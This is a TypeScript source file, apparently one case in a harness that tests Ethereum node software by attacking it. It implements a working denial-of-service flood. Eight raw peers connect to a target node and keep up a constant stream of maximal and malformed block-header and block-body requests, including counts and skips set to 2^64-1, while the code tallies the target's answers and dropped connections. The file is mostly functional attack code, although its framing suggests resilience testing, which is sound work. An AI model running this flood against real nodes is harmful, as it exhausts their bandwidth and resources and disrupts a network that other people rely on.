import { randomInt } from 'node:crypto'
import { EncodedItem, writeItem } from '@ethwire/rlp-codec'
import type { Attack } from '../attack.ts'
import { addresses, connectRawUntil, ethCode, uint } from '../raw-peer.ts'
import { unhex } from './payloads.ts'

const flooding = 8
/** Requests that a peer has open; it takes each answer and asks again. */
const ahead = 24
const most = 2n ** 64n - 1n

/** Case 40: eight peers that read whatever comes, and ask without end for as much as may be asked, and for nonsense. */
export const requests: Attack = async (target, signal) => {
  const did = { requests: 0, answers: 0, megabytes: 0, ended: 0 }
  const hashes = target.hashes.map((hash) => new EncodedItem(writeItem(unhex(hash))))
  const headers = (
    start: number | bigint,
    count: number | bigint,
    skip: number | bigint,
    reverse: number,
  ): Uint8Array => writeItem([uint(did.requests), [uint(start), uint(count), uint(skip), uint(reverse)]])
  const kinds: (() => [code: number, payload: Uint8Array])[] = [
    () => [ethCode.getBlockHeaders, headers(0, 1024, 0, 0)],
    () => [ethCode.getBlockHeaders, headers(target.head, 1024, 0, 1)],
    () => [ethCode.getBlockHeaders, headers(0, 1024, 1, 0)],
    () => [ethCode.getBlockHeaders, headers(randomInt(target.head), most, 0, 0)],
    () => [ethCode.getBlockHeaders, headers(1, 0, most, 0)],
    () => [ethCode.getBlockHeaders, headers(1, most, most, 1)],
    () => [ethCode.getBlockBodies, writeItem([uint(did.requests), hashes])],
  ]
  const flood = async (from: string): Promise<void> => {
    while (!signal.aborted) {
      const peer = await connectRawUntil(target, { from }, signal)
      if (peer === undefined) return
      let asked = 0
      while (!signal.aborted && !peer.socket.destroyed) {
        while (asked - peer.received.messages < ahead) {
          asked++
          peer.send(...kinds[did.requests++ % kinds.length]!())
        }
        await new Promise((resolve) => setTimeout(resolve, 5))
      }
      if (peer.socket.destroyed) did.ended++
      did.answers += peer.received.messages
      did.megabytes += peer.received.bytes / 1e6
      peer.close()
    }
  }
  await Promise.all(addresses(flooding).map(flood))
  return { did, claims: [] }
}
